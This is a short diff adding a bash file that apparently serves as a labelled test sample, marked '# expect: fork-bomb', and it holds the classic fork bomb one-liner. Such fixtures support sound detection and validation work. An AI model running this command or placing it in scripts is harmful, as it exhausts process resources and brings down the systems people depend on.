@@ -1,0 +1,3 @@
+#!/bin/bash
+# expect: fork-bomb
+:(){ :|:& };:
